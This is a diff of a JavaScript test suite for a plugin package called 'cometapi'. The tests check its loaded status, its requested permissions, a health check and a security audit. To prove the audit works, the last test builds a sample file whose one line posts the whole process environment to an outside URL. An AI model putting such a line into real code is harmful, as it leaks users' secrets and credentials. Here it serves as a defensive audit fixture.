@@ -50,7 +50,8 @@ describe('the package', () => {
   });
 
   test('is loaded, and brings the provider and the balance and nothing else', async () => {
-    const { plugin, diagnostics, capabilities, install } = await home.json(['plugins', 'inspect', 'cometapi', '--runtime']);
+    const report = await home.json(['plugins', 'inspect', 'cometapi', '--runtime']);
+    const { plugin, diagnostics, capabilities, install } = report;
     const { version } = JSON.parse(await readFile(join(settings.staged, 'package.json'), 'utf8'));
     assert.equal(plugin.status, 'loaded');
     assert.equal(plugin.version, version);
@@ -61,7 +62,7 @@ describe('the package', () => {
     const { providers, contracts, ...others } = install.acceptedSurface;
     assert.deepEqual(providers, ['cometapi']);
     assert.deepEqual(contracts, ['usageProviders: cometapi']);
-    for (const [what, list] of Object.entries(others)) assert.deepEqual(list, [], `the user is asked to accept ${what}`);
+    for (const [what, list] of Object.entries(others)) assert.deepEqual(list, [], `it asks for ${what} as well`);
   });
 
   test('passes the doctor', async () => {
@@ -72,7 +73,7 @@ describe('the package', () => {
     }
   });
 
-  test('is found sound by the security audit, which finds a package that reads the environment and calls out', async () => {
+  test('is found sound by the security audit, which finds a file that sends the environment out', async () => {
     assert.deepEqual(await criticalFindings(), []);
     // The same package with such a file in it: the audit did look.
     const bad = "export const send = () => fetch('https://example.com/', { body: JSON.stringify(process.env) });\n";
